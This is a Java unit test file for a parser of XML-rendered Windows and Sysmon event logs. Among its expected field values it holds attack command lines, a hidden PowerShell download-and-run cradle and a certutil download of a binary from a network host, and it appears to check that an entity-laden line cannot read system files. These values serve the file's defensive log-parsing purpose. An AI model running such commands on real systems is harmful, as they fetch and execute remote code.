package io.psfleet.winevent;

import static io.psfleet.winevent.Fixtures.fixture;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class XmlEventLinesTest {

  @Test
  void xmlWinEventLogLinesBecomeEvents() throws IOException {
    List<WinEvent> events = new ArrayList<>();
    ReadReport report = XmlEventLines.read(fixture("xmlwineventlog-sysmon.log"), events::add);

    assertThat(events).extracting(WinEvent::eventId).containsExactly(1, 10, 5, 1102);
    WinEvent e = events.get(0);
    assertThat(e.provider()).isEqualTo("Microsoft-Windows-Sysmon");
    assertThat(e.channel()).isEqualTo("Microsoft-Windows-Sysmon/Operational");
    assertThat(e.computer()).isEqualTo("win-dc-128.attackrange.local");
    assertThat(e.recordId()).isEqualTo(225481);
    assertThat(e.timeCreated()).isEqualTo(Instant.parse("2022-02-15T21:03:14.6245573Z"));
    assertThat(e.eventData()).hasSize(23);
    // Entities decoded, text kept as Windows rendered it (trailing space included).
    assertThat(e.field("CommandLine"))
        .isEqualTo(
            "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
                + ".DownloadString('http://10.0.1.5/a.ps1') & exit\" ");
    assertThat(e.field("ParentCommandLine")).isEqualTo("\"C:\\Windows\\system32\\cmd.exe\" ");
    assertThat(events.get(1).field("CallTrace"))
        .isEqualTo("C:\\Windows\\SYSTEM32\\ntdll.dll+9fd34|UNKNOWN(00000245D3A4B1C2)");
    assertThat(events.get(2).field("Image"))
        .isEqualTo("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
    assertThat(events.get(3).eventData())
        .containsEntry("SubjectUserName", "Administrator")
        .containsEntry("SubjectLogonId", "0xab9e2")
        .hasSize(4);
    assertThat(events.get(3).isSysmon()).isFalse();
    assertThat(report.eventsByProvider())
        .containsEntry("Microsoft-Windows-Sysmon", 3L)
        .containsEntry("Microsoft-Windows-Eventlog", 1L);
  }

  @Test
  void malformedAndEntityLadenLinesAreIssuesAndNothingIsFetched() throws IOException {
    ReadReport report = XmlEventLines.read(fixture("xmlwineventlog-sysmon.log"), e -> {});

    assertThat(report.issues()).extracting(ReadIssue::position).containsExactly(3L, 4L);
    assertThat(report.issues().get(0).message()).contains("not well-formed XML");
    assertThat(report.issues().get(1).toString())
        .contains("xmlwineventlog-sysmon.log: line 4")
        .doesNotContain("root:");
  }

  @Test
  void anEventsDocumentIsStreamedWhole() throws IOException {
    List<WinEvent> events = new ArrayList<>();
    ReadReport report = WinEventFiles.read(fixture("events-document.xml"), events::add);

    assertThat(report.format()).isEqualTo(WinEventFormat.XML_EVENT_LINES);
    assertThat(events).extracting(WinEvent::eventId).containsExactly(1, 22);
    assertThat(events.get(0).field("CommandLine"))
        .isEqualTo("certutil.exe -urlcache -split -f http://203.0.113.9/p.bin p.bin");
    assertThat(events.get(1).recordId()).isEqualTo(78);
    assertThat(events.get(1).timeCreated()).isEqualTo(Instant.parse("2024-03-02T10:15:01Z"));
    assertThat(report.issues())
        .singleElement()
        .asString()
        .isEqualTo(
            "events-document.xml: line 33: <Event> without System/EventID: not a Windows event;"
                + " skipped");
  }
}
